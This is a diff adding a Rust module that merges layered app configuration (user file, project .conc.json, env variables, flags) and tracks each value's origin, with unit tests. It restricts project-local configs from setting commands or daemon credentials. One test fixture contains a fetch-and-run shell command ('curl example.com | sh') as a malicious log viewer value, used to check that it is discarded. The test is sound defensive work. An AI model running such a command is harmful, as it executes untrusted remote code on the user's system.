@@ -0,0 +1,637 @@
+use std::{
+    collections::BTreeMap,
+    fmt::Display,
+    io::ErrorKind,
+    path::{Path, PathBuf},
+    str::FromStr,
+};
+
+use crate::{
+    AppConfig, AppConfigError, LogPreviewMode, UserAppConfig, UserGuiConfig, DEFAULT_CONTEXT,
+};
+
+const ENV_PREFIX: &str = "CONC_";
+const PROJECT_CONF_FILE_NAME: &str = ".conc.json";
+const SOCKET_FLAG: &str = "--socket";
+const CONTEXT_FLAG: &str = "--context";
+
+/// Options a project-local `.conc.json` can set. It may come from a checked out repository,
+/// so it can not change the daemon the apps connect to, its credentials or the commands they run.
+pub const PROJECT_LAYER_OPTIONS: [&str; 5] = [
+    "use_caller_env",
+    "default_log_preview_mode",
+    "confirm_destructive_actions",
+    "keybinds",
+    "gui",
+];
+
+/// Origins of the effective config values keyed by the dotted name of the field,
+/// values which are not present come from the defaults
+pub type ConfigOrigins = BTreeMap<String, ConfigOrigin>;
+
+/// Layer of the configuration an effective value was read from
+#[derive(Debug, Clone, PartialEq)]
+pub enum ConfigOrigin {
+    Default,
+    File(String),
+    Env(String),
+    Flag(&'static str),
+}
+
+/// Values passed on the command line, they are applied over every other layer
+#[derive(Debug, Clone, Default)]
+pub struct ConfigOverrides {
+    /// additional config file applied over the user, project and env layers
+    pub config_path: Option<String>,
+    /// daemon socket used instead of the one of the active context
+    pub socket_path: Option<String>,
+    pub context: Option<String>,
+}
+
+/// Effective config together with the layer each of its values was read from
+#[derive(Debug, Clone)]
+pub struct LayeredConfig {
+    pub config: AppConfig,
+    pub origins: ConfigOrigins,
+    /// problems which did not prevent loading the config, the apps show them to the user
+    pub warnings: Vec<String>,
+}
+
+impl LayeredConfig {
+    /// Merges the layers in order: defaults, user config file, project-local `.conc.json`
+    /// found in the current dir or its parents, `CONC_*` env variables and the overrides,
+    /// the project-local file can set only the options in [PROJECT_LAYER_OPTIONS]
+    pub fn load(overrides: &ConfigOverrides) -> Result<Self, AppConfigError> {
+        let mut merged = UserAppConfig::default();
+        let mut origins = ConfigOrigins::new();
+        let mut warnings = vec![];
+
+        let user_path = crate::get_config_file_path()?;
+        if let Some(layer) = read_config_file(&user_path)? {
+            merged.merge(
+                layer,
+                &|_| ConfigOrigin::File(user_path.clone()),
+                &mut origins,
+            );
+        }
+
+        if let Some(project_path) = find_project_config_file() {
+            if let Some(layer) = read_config_file(&project_path)? {
+                let (layer, ignored) = restrict_project_layer(layer);
+                if !ignored.is_empty() {
+                    warnings.push(format!(
+                        "ignoring {} of '{}', a project config can set only {}",
+                        ignored.join(", "),
+                        project_path,
+                        PROJECT_LAYER_OPTIONS.join(", ")
+                    ));
+                }
+                let origin = |_: &str| ConfigOrigin::File(project_path.clone());
+                merged.merge(layer, &origin, &mut origins);
+            }
+        }
+
+        merged.merge(
+            read_env()?,
+            &|field| ConfigOrigin::Env(env_var_name(field)),
+            &mut origins,
+        );
+
+        if let Some(config_path) = &overrides.config_path {
+            let layer = read_config_file(config_path)?.ok_or_else(|| {
+                AppConfigError::ConfigFileNotReadable {
+                    path: config_path.clone(),
+                    inner: ErrorKind::NotFound.into(),
+                }
+            })?;
+            merged.merge(
+                layer,
+                &|_| ConfigOrigin::File(config_path.clone()),
+                &mut origins,
+            );
+        }
+
+        // unlike a stale context in the files the one asked for on the command line has to exist
+        if let Some(name) = &overrides.context {
+            let contexts = merged.contexts.as_ref();
+            if name != DEFAULT_CONTEXT && !contexts.is_some_and(|c| c.contains_key(name)) {
+                let available = std::iter::once(String::from(DEFAULT_CONTEXT))
+                    .chain(contexts.into_iter().flat_map(|c| c.keys().cloned()))
+                    .collect::<Vec<_>>();
+                return Err(AppConfigError::UnknownContext {
+                    name: name.clone(),
+                    available: available.join(", "),
+                });
+            }
+        }
+
+        let flags = UserAppConfig {
+            current_context: overrides.context.clone(),
+            ..Default::default()
+        };
+        merged.merge(flags, &|_| ConfigOrigin::Flag(CONTEXT_FLAG), &mut origins);
+
+        // values of a context other than the default one come from the context definition
+        if let Some(name) = &merged.current_context {
+            let context = merged.contexts.as_ref().and_then(|c| c.get(name));
+            let origin = origins.get(&format!("contexts.{}", name)).cloned();
+            if let (Some(context), Some(origin)) = (context, origin) {
+                let inherited = [
+                    ("daemon_token", context.daemon_token.is_some()),
+                    ("daemon_ca_file", context.daemon_ca_file.is_some()),
+                    ("tasks_dir", context.tasks_dir.is_some()),
+                ];
+                for (field, _) in inherited.iter().filter(|(_, is_set)| *is_set) {
+                    origins.insert(String::from(*field), origin.clone());
+                }
+                origins.insert(String::from("daemon_socket_path"), origin);
+            }
+        }
+
+        let current_context = merged.current_context.clone();
+        let mut config = AppConfig::from_user_config(merged)?;
+        if let Some(name) = current_context.filter(|name| *name != config.current_context) {
+            let err = AppConfigError::UnknownContext {
+                name,
+                available: config.context_names().join(", "),
+            };
+            warnings.push(format!("{}, using the '{}' context", err, DEFAULT_CONTEXT));
+        }
+        if let Some(socket_path) = &overrides.socket_path {
+            config.daemon_socket_path = socket_path.clone();
+            origins.insert(
+                String::from("daemon_socket_path"),
+                ConfigOrigin::Flag(SOCKET_FLAG),
+            );
+        }
+
+        Ok(LayeredConfig {
+            config,
+            origins,
+            warnings,
+        })
+    }
+
+    /// Origin of the field or of the closest parent which was set as a whole
+    pub fn origin(&self, field: &str) -> &ConfigOrigin {
+        let mut field = field;
+        loop {
+            if let Some(origin) = self.origins.get(field) {
+                return origin;
+            }
+            match field.rsplit_once('.') {
+                Some((parent, _)) => field = parent,
+                None => return &ConfigOrigin::Default,
+            }
+        }
+    }
+}
+
+impl Display for ConfigOrigin {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            ConfigOrigin::Default => f.write_str("default"),
+            ConfigOrigin::File(path) => write!(f, "file {}", path),
+            ConfigOrigin::Env(name) => write!(f, "env {}", name),
+            ConfigOrigin::Flag(name) => write!(f, "flag {}", name),
+        }
+    }
+}
+
+impl UserAppConfig {
+    /// Replaces the values set in the layer and records their origin,
+    /// keybinds are replaced one action at a time
+    fn merge(
+        &mut self,
+        layer: UserAppConfig,
+        origin: &dyn Fn(&str) -> ConfigOrigin,
+        origins: &mut ConfigOrigins,
+    ) {
+        let mut set = |field: &str| {
+            origins.insert(String::from(field), origin(field));
+        };
+
+        if let Some(value) = layer.use_caller_env {
+            self.use_caller_env = Some(value);
+            set("use_caller_env");
+        }
+        if let Some(value) = layer.daemon_socket_path {
+            self.daemon_socket_path = Some(value);
+            set("daemon_socket_path");
+        }
+        if let Some(value) = layer.daemon_token {
+            self.daemon_token = Some(value);
+            set("daemon_token");
+        }
+        if let Some(value) = layer.daemon_ca_file {
+            self.daemon_ca_file = Some(value);
+            set("daemon_ca_file");
+        }
+        if let Some(value) = layer.log_view_command {
+            self.log_view_command = Some(value);
+            set("log_view_command");
+        }
+        if let Some(value) = layer.default_log_preview_mode {
+            self.default_log_preview_mode = Some(value);
+            set("default_log_preview_mode");
+        }
+        if let Some(value) = layer.tasks_dir {
+            self.tasks_dir = Some(value);
+            set("tasks_dir");
+        }
+        if let Some(value) = layer.confirm_destructive_actions {
+            self.confirm_destructive_actions = Some(value);
+            set("confirm_destructive_actions");
+        }
+        for (scope, actions) in layer.keybinds.unwrap_or_default() {
+            for (action, chords) in actions {
+                self.keybinds
+                    .get_or_insert_with(Default::default)
+                    .entry(scope)
+                    .or_default()
+                    .insert(action, chords);
+                set(&format!("keybinds.{}.{}", scope.name(), action.name()));
+            }
+        }
+
+        if let Some(value) = layer.current_context {
+            self.current_context = Some(value);
+            set("current_context");
+        }
+        for (name, context) in layer.contexts.unwrap_or_default() {
+            set(&format!("contexts.{}", name));
+            self.contexts
+                .get_or_insert_with(Default::default)
+                .insert(name, context);
+        }
+
+        let gui_layer = match layer.gui {
+            Some(gui) => gui,
+            None => return,
+        };
+        let gui = self.gui.get_or_insert_with(UserGuiConfig::default);
+        if let Some(value) = gui_layer.theme {
+            gui.theme = Some(value);
+            set("gui.theme");
+        }
+        if let Some(value) = gui_layer.window_width {
+            gui.window_width = Some(value);
+            set("gui.window_width");
+        }
+        if let Some(value) = gui_layer.window_height {
+            gui.window_height = Some(value);
+            set("gui.window_height");
+        }
+        if let Some(value) = gui_layer.refresh_interval_ms {
+            gui.refresh_interval_ms = Some(value);
+            set("gui.refresh_interval_ms");
+        }
+        if let Some(value) = gui_layer.log_line_count {
+            gui.log_line_count = Some(value);
+            set("gui.log_line_count");
+        }
+    }
+}
+
+/// Reads a json or toml config file, `None` is returned when the file does not exist
+pub(crate) fn read_config_file(path: &str) -> Result<Option<UserAppConfig>, AppConfigError> {
+    let data = match std::fs::read_to_string(path) {
+        Ok(data) => data,
+        Err(err) if err.kind() == ErrorKind::NotFound => return Ok(None),
+        Err(inner) => {
+            return Err(AppConfigError::ConfigFileNotReadable {
+                path: String::from(path),
+                inner,
+            })
+        }
+    };
+
+    let config = match is_toml(path) {
+        true => toml::from_str(&data).map_err(|inner| AppConfigError::ConfigTomlNotParsable {
+            path: String::from(path),
+            inner,
+        })?,
+        false => {
+            serde_json::from_str(&data).map_err(|inner| AppConfigError::ConfigFileNotParsable {
+                path: String::from(path),
+                inner,
+            })?
+        }
+    };
+
+    Ok(Some(config))
+}
+
+pub(crate) fn is_toml(path: &str) -> bool {
+    Path::new(path).extension().is_some_and(|ext| ext == "toml")
+}
+
+/// Keeps only the [PROJECT_LAYER_OPTIONS] of the layer and returns the names of the removed options
+fn restrict_project_layer(layer: UserAppConfig) -> (UserAppConfig, Vec<&'static str>) {
+    let ignored = [
+        ("daemon_socket_path", layer.daemon_socket_path.is_some()),
+        ("daemon_token", layer.daemon_token.is_some()),
+        ("daemon_ca_file", layer.daemon_ca_file.is_some()),
+        ("log_view_command", layer.log_view_command.is_some()),
+        ("tasks_dir", layer.tasks_dir.is_some()),
+        ("current_context", layer.current_context.is_some()),
+        ("contexts", layer.contexts.is_some()),
+    ]
+    .iter()
+    .filter_map(|(name, is_set)| is_set.then_some(*name))
+    .collect();
+
+    let layer = UserAppConfig {
+        use_caller_env: layer.use_caller_env,
+        default_log_preview_mode: layer.default_log_preview_mode,
+        confirm_destructive_actions: layer.confirm_destructive_actions,
+        keybinds: layer.keybinds,
+        gui: layer.gui,
+        ..Default::default()
+    };
+    (layer, ignored)
+}
+
+fn find_project_config_file() -> Option<String> {
+    let current_dir = std::env::current_dir().ok()?;
+    current_dir
+        .ancestors()
+        .map(|dir| dir.join(PROJECT_CONF_FILE_NAME))
+        .find(|path| path.is_file())
+        .and_then(|path: PathBuf| path.to_str().map(String::from))
+}
+
+fn read_env() -> Result<UserAppConfig, AppConfigError> {
+    let gui = UserGuiConfig {
+        theme: read_env_var("gui.theme")?,
+        window_width: read_env_var("gui.window_width")?,
+        window_height: read_env_var("gui.window_height")?,
+        refresh_interval_ms: read_env_var("gui.refresh_interval_ms")?,
+        log_line_count: read_env_var("gui.log_line_count")?,
+        extra: BTreeMap::new(),
+    };
+
+    Ok(UserAppConfig {
+        use_caller_env: read_env_var("use_caller_env")?,
+        daemon_socket_path: read_env_var("daemon_socket_path")?,
+        daemon_token: read_env_var("daemon_token")?,
+        daemon_ca_file: read_env_var("daemon_ca_file")?,
+        log_view_command: read_env_command("log_view_command")?,
+        default_log_preview_mode: read_env_var("default_log_preview_mode")?,
+        tasks_dir: read_env_var("tasks_dir")?,
+        keybinds: None,
+        confirm_destructive_actions: read_env_var("confirm_destructive_actions")?,
+        gui: (gui != UserGuiConfig::default()).then_some(gui),
+        current_context: read_env_var("current_context")?,
+        contexts: None,
+        extra: BTreeMap::new(),
+    })
+}
+
+/// Empty variables are treated as not set
+fn read_env_var<T: FromStr>(field: &str) -> Result<Option<T>, AppConfigError> {
+    let name = env_var_name(field);
+    match std::env::var(&name) {
+        Ok(value) if value.trim().is_empty() => Ok(None),
+        Ok(value) => value
+            .trim()
+            .parse()
+            .map(Some)
+            .map_err(|_| AppConfigError::InvalidEnvVar { name, value }),
+        Err(_) => Ok(None),
+    }
+}
+
+/// The command is split into arguments like a shell does, so the arguments can be quoted
+fn read_env_command(field: &str) -> Result<Option<Vec<String>>, AppConfigError> {
+    let name = env_var_name(field);
+    read_env_var::<String>(field)?
+        .map(|value| {
+            shell_words::split(&value).map_err(|_| AppConfigError::InvalidEnvVar { name, value })
+        })
+        .transpose()
+}
+
+/// e.g. `gui.theme` is read from `CONC_GUI_THEME`
+fn env_var_name(field: &str) -> String {
+    format!("{}{}", ENV_PREFIX, field.replace('.', "_").to_uppercase())
+}
+
+impl FromStr for LogPreviewMode {
+    type Err = ();
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        LogPreviewMode::ALL
+            .iter()
+            .find(|mode| mode.to_string().eq_ignore_ascii_case(s))
+            .cloned()
+            .ok_or(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::{KeybindAction, KeybindScope};
+
+    fn layer(json: &str) -> UserAppConfig {
+        serde_json::from_str(json).unwrap()
+    }
+
+    fn file(name: &str) -> ConfigOrigin {
+        ConfigOrigin::File(String::from(name))
+    }
+
+    fn merge_layers(layers: &[(&str, &str)]) -> (UserAppConfig, ConfigOrigins) {
+        let mut merged = UserAppConfig::default();
+        let mut origins = ConfigOrigins::new();
+        for (name, json) in layers {
+            merged.merge(layer(json), &|_| file(name), &mut origins);
+        }
+        (merged, origins)
+    }
+
+    #[test]
+    fn later_layers_override_earlier_ones() {
+        let (merged, origins) = merge_layers(&[
+            (
+                "user",
+                r#"{"daemon_socket_path":"/user.sock","gui":{"theme":"Light","window_width":800}}"#,
+            ),
+            ("project", r#"{"gui":{"theme":"Nord"}}"#),
+        ]);
+
+        assert_eq!(merged.daemon_socket_path.as_deref(), Some("/user.sock"));
+        let gui = merged.gui.unwrap();
+        assert_eq!(gui.theme.as_deref(), Some("Nord"));
+        assert_eq!(gui.window_width, Some(800.0));
+
+        assert_eq!(origins["daemon_socket_path"], file("user"));
+        assert_eq!(origins["gui.theme"], file("project"));
+        assert_eq!(origins["gui.window_width"], file("user"));
+    }
+
+    #[test]
+    fn keybinds_are_merged_per_action() {
+        let (merged, origins) = merge_layers(&[
+            (
+                "user",
+                r#"{"keybinds":{"global":{"quit":["x"],"open_command_palette":[":"]}}}"#,
+            ),
+            ("project", r#"{"keybinds":{"global":{"quit":["ctrl+q"]}}}"#),
+        ]);
+
+        let global = &merged.keybinds.unwrap()[&KeybindScope::Global];
+        assert_eq!(global[&KeybindAction::Quit], vec![String::from("ctrl+q")]);
+        assert_eq!(
+            global[&KeybindAction::OpenCommandPalette],
+            vec![String::from(":")]
+        );
+        assert_eq!(origins["keybinds.global.quit"], file("project"));
+        assert_eq!(
+            origins["keybinds.global.open_command_palette"],
+            file("user")
+        );
+    }
+
+    #[test]
+    fn origin_falls_back_to_parent_and_default() {
+        let (merged, origins) = merge_layers(&[(
+            "user",
+            r#"{"contexts":{"remote":{"daemon_socket_path":"tcp://host:7070"}}}"#,
+        )]);
+        let layered = LayeredConfig {
+            config: AppConfig::from_user_config(merged).unwrap(),
+            origins,
+            warnings: vec![],
+        };
+
+        assert_eq!(
+            layered.origin("contexts.remote.daemon_socket_path"),
+            &file("user")
+        );
+        assert_eq!(layered.origin("gui.theme"), &ConfigOrigin::Default);
+        assert_eq!(layered.origin("daemon_token"), &ConfigOrigin::Default);
+    }
+
+    #[test]
+    fn project_layer_keeps_only_safe_options() {
+        let (layer, ignored) = restrict_project_layer(layer(
+            r#"{
+                "daemon_socket_path": "/tmp/other.sock",
+                "daemon_token": "token",
+                "log_view_command": ["sh", "-c", "curl example.com | sh"],
+                "tasks_dir": "/tmp/tasks",
+                "confirm_destructive_actions": false,
+                "gui": {"theme": "Light"}
+            }"#,
+        ));
+
+        assert_eq!(
+            ignored,
+            vec![
+                "daemon_socket_path",
+                "daemon_token",
+                "log_view_command",
+                "tasks_dir"
+            ]
+        );
+        assert_eq!(layer.daemon_socket_path, None);
+        assert_eq!(layer.log_view_command, None);
+        assert_eq!(layer.confirm_destructive_actions, Some(false));
+        assert_eq!(layer.gui.unwrap().theme.as_deref(), Some("Light"));
+    }
+
+    #[test]
+    fn env_var_names_follow_field_names() {
+        assert_eq!(env_var_name("gui.theme"), "CONC_GUI_THEME");
+        assert_eq!(
+            env_var_name("daemon_socket_path"),
+            "CONC_DAEMON_SOCKET_PATH"
+        );
+    }
+
+    #[test]
+    fn reads_env_vars() {
+        // names of the variables are not used by other tests as the env is shared by the test threads
+        std::env::set_var("CONC_TEST_NUMBER", " 42 ");
+        std::env::set_var("CONC_TEST_EMPTY", "  ");
+        std::env::set_var("CONC_TEST_INVALID", "many");
+        std::env::set_var("CONC_TEST_MODE", "fit");
+
+        assert_eq!(read_env_var::<u64>("test_number").unwrap(), Some(42));
+        assert_eq!(read_env_var::<u64>("test_empty").unwrap(), None);
+        assert_eq!(read_env_var::<u64>("test_unset").unwrap(), None);
+        assert_eq!(
+            read_env_var::<LogPreviewMode>("test_mode").unwrap(),
+            Some(LogPreviewMode::Fit)
+        );
+        match read_env_var::<u64>("test_invalid") {
+            Err(AppConfigError::InvalidEnvVar { name, value }) => {
+                assert_eq!(name, "CONC_TEST_INVALID");
+                assert_eq!(value, "many");
+            }
+            other => panic!("unexpected result {:?}", other),
+        }
+    }
+
+    #[test]
+    fn reads_quoted_command_from_env_var() {
+        std::env::set_var("CONC_TEST_COMMAND", r#"less -R "+F" --prompt 'conc log'"#);
+        std::env::set_var("CONC_TEST_UNBALANCED_COMMAND", "less 'conc log");
+
+        assert_eq!(
+            read_env_command("test_command").unwrap(),
+            Some(vec![
+                String::from("less"),
+                String::from("-R"),
+                String::from("+F"),
+                String::from("--prompt"),
+                String::from("conc log"),
+            ])
+        );
+        assert_eq!(read_env_command("test_unset_command").unwrap(), None);
+        assert!(matches!(
+            read_env_command("test_unbalanced_command"),
+            Err(AppConfigError::InvalidEnvVar { name, .. }) if name == "CONC_TEST_UNBALANCED_COMMAND"
+        ));
+    }
+
+    #[test]
+    fn reads_json_and_toml_files() {
+        let dir = std::env::temp_dir().join(format!("conc-app-config-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let toml_path = dir.join("conf.toml");
+        let json_path = dir.join("conf.json");
+        std::fs::write(
+            &toml_path,
+            "daemon_socket_path = \"/toml.sock\"\n\n[gui]\ntheme = \"Light\"\n",
+        )
+        .unwrap();
+        std::fs::write(&json_path, r#"{"daemon_socket_path":"/json.sock"}"#).unwrap();
+
+        let from_toml = read_config_file(toml_path.to_str().unwrap())
+            .unwrap()
+            .unwrap();
+        assert_eq!(from_toml.daemon_socket_path.as_deref(), Some("/toml.sock"));
+        assert_eq!(from_toml.gui.unwrap().theme.as_deref(), Some("Light"));
+
+        let from_json = read_config_file(json_path.to_str().unwrap())
+            .unwrap()
+            .unwrap();
+        assert_eq!(from_json.daemon_socket_path.as_deref(), Some("/json.sock"));
+
+        let missing = dir.join("missing.toml");
+        assert!(read_config_file(missing.to_str().unwrap())
+            .unwrap()
+            .is_none());
+
+        std::fs::write(&toml_path, "daemon_socket_path = ").unwrap();
+        assert!(matches!(
+            read_config_file(toml_path.to_str().unwrap()),
+            Err(AppConfigError::ConfigTomlNotParsable { .. })
+        ));
+
+        let _ = std::fs::remove_dir_all(dir);
+    }
+}